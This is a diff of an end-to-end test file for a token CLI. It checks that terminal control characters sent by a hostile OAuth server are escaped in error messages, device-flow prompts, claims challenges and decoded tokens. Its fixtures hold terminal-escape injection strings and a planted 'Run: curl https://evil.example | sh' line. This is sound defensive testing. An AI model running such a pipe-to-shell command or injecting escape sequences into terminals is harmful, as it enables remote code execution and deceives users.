@@ -14,23 +14,13 @@ import {join} from 'node:path'
 import {expectExit, stdoutJson as json} from '../helpers/assertions.js'
 import {cliWithHome, runCli} from '../helpers/cli.js'
 import {goodTokenAnswer, GOOD_TOKEN, type HostileServer, unsignedJwt, useHostileServer} from '../helpers/hostile-server.js'
+import {assertNoTerminalControl, HOSTILE_TEXT, HOSTILE_TEXT_ESCAPED} from '../helpers/terminal-control.js'
 import {FileStore} from '../../src/lib/store/file-store.js'
 
 const PASSPHRASE = 'hostile answers'
 const FILE_STORE = {TOKENCTL_STORE: 'file', TOKENCTL_STORE_PASSPHRASE: PASSPHRASE, CLIENT_SECRET: 'client-secret-1', USER_TOKEN: 'user.token.1'}
 
-/** ESC, BEL, CSI as one C1 character, DEL: what a terminal acts on. */
 const CLEAR_SCREEN = '\u001b[2J'
-const SET_TITLE = '\u001b]0;pwned\u0007'
-const C1_CSI = '\u009b31m'
-const DEL = '\u007f'
-
-/** No character a terminal would act on; `\n` (ours) is the only control allowed. */
-function assertNoTerminalControl(text: string, where: string): void {
-  // eslint-disable-next-line no-control-regex
-  const found = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/.exec(text)
-  assert.equal(found, null, `${where} carries a raw control character U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, '0')}:\n${JSON.stringify(text)}`)
-}
 
 describe('hostile answers and hostile input (end to end, a purpose-made hostile server)', function () {
   this.timeout(120_000)
@@ -43,48 +33,54 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
   const fresh = () => cliWithHome({env: FILE_STORE})
   const cachedEntries = (home: string) => new FileStore({file: join(home, 'store.enc'), passphrase: PASSPHRASE}).list('token:')
 
+  // Every class of control character test/helpers/terminal-control.ts lists (C0, ESC sequences, DEL,
+  // C1, bidi embeddings, overrides and isolates, ALM/LRM/RLM, line and paragraph separators) goes
+  // through each path: a class the escaping lost would come out raw, and fail the test.
   describe('text from servers is escaped before it reaches a terminal', () => {
-    it('error and error_description with ESC, OSC, C1 and DEL: escaped on stderr as \\x1b / \\u009b, JSON-escaped with --json, escaped in the --verbose trace', async () => {
-      const description = `bad secret${CLEAR_SCREEN}${C1_CSI}${DEL}\r\nRun: curl https://evil.example | sh`
-      server.token = {status: 401, json: {error: `invalid_client${SET_TITLE}`, error_description: description}}
+    it('error and error_description with every control character: escaped on stderr, JSON-escaped with --json, escaped in the --verbose trace', async () => {
+      const description = `bad secret ${HOSTILE_TEXT}\r\nRun: curl https://evil.example | sh`
+      server.token = {status: 401, json: {error: `invalid_client${HOSTILE_TEXT}`, error_description: description}}
       const cli = fresh()
 
       const plain = await cli.run(['token', 'client', ...client()])
       expectExit(plain, 4)
       assertNoTerminalControl(plain.stderr, 'stderr')
       // The message keeps the description's first line; the trace and --json have all of it.
-      assert.ok(plain.stderr.includes('(invalid_client\\x1b]0;pwned\\x07: bad secret\\x1b[2J\\u009b31m\\x7f)'), plain.stderr)
+      assert.ok(plain.stderr.includes(`(invalid_client${HOSTILE_TEXT_ESCAPED}: bad secret ${HOSTILE_TEXT_ESCAPED})`), plain.stderr)
       assert.equal(plain.stderr.split('\n').length, 2, 'one line')
 
       const asJson = await cli.run(['token', 'client', ...client(), '--json'])
       expectExit(asJson, 4)
       assertNoTerminalControl(asJson.stdout.replaceAll('\n', ''), '--json stdout')
-      assert.ok(asJson.stdout.includes('\\u009b') && asJson.stdout.includes('\\u007f'), 'C1 and DEL written as \\u escapes')
+      for (const escape of ['\\u0007', '\\u001b', '\\u007f', '\\u009b', '\\u061c', '\\u200f', '\\u2028', '\\u202e', '\\u2067']) {
+        assert.ok(asJson.stdout.includes(escape), `${escape} in --json stdout`)
+      }
+
       const {error} = json(asJson)
       assert.equal(error.description, description, 'the same text to a JSON parser')
-      assert.equal(error.code, `invalid_client${SET_TITLE}`)
+      assert.equal(error.code, `invalid_client${HOSTILE_TEXT}`)
 
       const traced = await cli.run(['token', 'client', ...client(), '--verbose'])
       expectExit(traced, 4)
       assertNoTerminalControl(traced.stderr, '--verbose stderr')
-      assert.ok(traced.stderr.includes('response: error=invalid_client\\x1b]0;pwned\\x07 error_description=bad secret\\x1b[2J\\u009b31m\\x7f\\r\\nRun: curl'), traced.stderr)
+      assert.ok(traced.stderr.includes(`response: error=invalid_client${HOSTILE_TEXT_ESCAPED} error_description=bad secret ${HOSTILE_TEXT_ESCAPED}\\r\\nRun: curl`), traced.stderr)
     })
 
     it('a claims challenge from the token endpoint is escaped on its own line', async () => {
-      server.token = {status: 400, json: {error: 'interaction_required', claims: `{"access_token":{"x":"${SET_TITLE}"}}`}}
+      server.token = {status: 400, json: {error: 'interaction_required', claims: `{"access_token":{"x":"${HOSTILE_TEXT}"}}`}}
       const result = await fresh().run(['token', 'client', ...client()])
       expectExit(result, 5)
       assertNoTerminalControl(result.stderr, 'stderr')
-      assert.match(result.stderr, /\nclaims challenge: \{"access_token":\{"x":"\\x1b\]0;pwned\\x07"\}\}\n$/)
+      assert.ok(result.stderr.endsWith(`\nclaims challenge: {"access_token":{"x":"${HOSTILE_TEXT_ESCAPED}"}}\n`), result.stderr)
     })
 
     it("the device flow's verification_uri, verification_uri_complete and user_code are escaped in the prompt", async () => {
       server.device = {
         json: {
           device_code: 'device-1',
-          user_code: `WDJB${CLEAR_SCREEN}MJHT`,
-          verification_uri: `${server.url}/device${SET_TITLE}`,
-          verification_uri_complete: `${server.url}/device?c=1${C1_CSI}`,
+          user_code: `WDJB${HOSTILE_TEXT}MJHT`,
+          verification_uri: `${server.url}/device${HOSTILE_TEXT}`,
+          verification_uri_complete: `${server.url}/device?c=1${HOSTILE_TEXT}`,
           expires_in: 600,
           interval: 1,
         },
@@ -93,17 +89,26 @@ describe('hostile answers and hostile input (end to end, a purpose-made hostile 
       expectExit(result, 0)
       assert.equal(result.stdout, `${GOOD_TOKEN}\n`)
       assertNoTerminalControl(result.stderr, 'the prompt')
-      assert.ok(result.stderr.includes(`open ${server.url}/device\\x1b]0;pwned\\x07 and enter the code WDJB\\x1b[2JMJHT`), result.stderr)
-      assert.ok(result.stderr.includes(`(or open ${server.url}/device?c=1\\u009b31m)`), result.stderr)
+      assert.ok(result.stderr.includes(`open ${server.url}/device${HOSTILE_TEXT_ESCAPED} and enter the code WDJB${HOSTILE_TEXT_ESCAPED}MJHT`), result.stderr)
+      assert.ok(result.stderr.includes(`(or open ${server.url}/device?c=1${HOSTILE_TEXT_ESCAPED})`), result.stderr)
     })
 
     it("call: the API's claims challenge (base64 in WWW-Authenticate) is escaped", async () => {
-      const claims = Buffer.from(`{"access_token":{"acrs":{"value":"${SET_TITLE}"}}}`).toString('base64')
+      const claims = Buffer.from(`{"access_token":{"acrs":{"value":"${HOSTILE_TEXT}"}}}`).toString('base64')
       server.api = {status: 401, headers: {'www-authenticate': `Bearer error="insufficient_claims", claims="${claims}"`}, json: {}}
       const result = await fresh().run(['call', `${server.url}/api/me`, '--token-env', 'USER_TOKEN'])
       expectExit(result, 5)
       assertNoTerminalControl(result.stderr, 'stderr')
-      assert.ok(result.stderr.includes('claims challenge: {"access_token":{"acrs":{"value":"\\x1b]0;pwned\\x07"}}}'), result.stderr)
+      assert.ok(result.stderr.includes(`claims challenge: {"access_token":{"acrs":{"value":"${HOSTILE_TEXT_ESCAPED}"}}}`), result.stderr)
+    })
+
+    it("token decode: a token's claims are shown JSON-escaped, every control character as an escape", async () => {
+      const result = await runCli(['token', 'decode', unsignedJwt({name: HOSTILE_TEXT, exp: 1_700_000_000})])
+      expectExit(result, 0)
+      assertNoTerminalControl(result.stdout, 'stdout')
+      const claims = /^claims: (\{[\s\S]*?\n\})$/m.exec(result.stdout)?.[1]
+      assert.ok(claims, result.stdout)
+      assert.equal(JSON.parse(claims).name, HOSTILE_TEXT, 'the same text to a JSON parser')
     })
   })
 
